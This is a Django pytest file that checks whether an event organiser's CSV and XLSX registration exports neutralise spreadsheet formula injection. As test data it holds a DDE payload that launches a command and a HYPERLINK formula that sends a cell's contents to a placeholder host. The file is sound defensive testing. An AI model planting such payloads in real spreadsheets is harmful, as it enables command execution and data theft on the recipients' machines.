"""An anonymous registration's name reaches the organiser's export as text, not a formula."""

import csv
import io
import zipfile
from importlib import import_module

from django.apps import apps
from django.urls import reverse

import pytest

from demo.factories.agenda import RegistrationFactory
from demo.factories.users import UserFactory

pytestmark = pytest.mark.django_db

DDE = "=cmd|' /C calc'!A0"


@pytest.fixture(autouse=True)
def organiser_permissions(db):
    # Restores the group's permissions after a transactional test flushed them.
    import_module("agenda.migrations.0002_organiser_permissions").forwards(apps, None)


def test_registrations_export_neutralises_formulas(client, make_event):
    organiser = UserFactory(groups=["Organisatoren"])
    event = make_event(title="Netwerkdag", organiser_users=[organiser])
    RegistrationFactory(event=event, name=DDE, organisation='=HYPERLINK("http://x/?"&A1)')
    client.force_login(organiser)

    response = client.get(reverse("registrations:index"), {"export": "csv"})
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
    assert "'" + DDE in cells and DDE not in cells
    assert not [cell for cell in cells if cell.startswith("=")]

    response = client.get(reverse("registrations:index"), {"export": "xlsx"})
    with zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) for n in sheets)
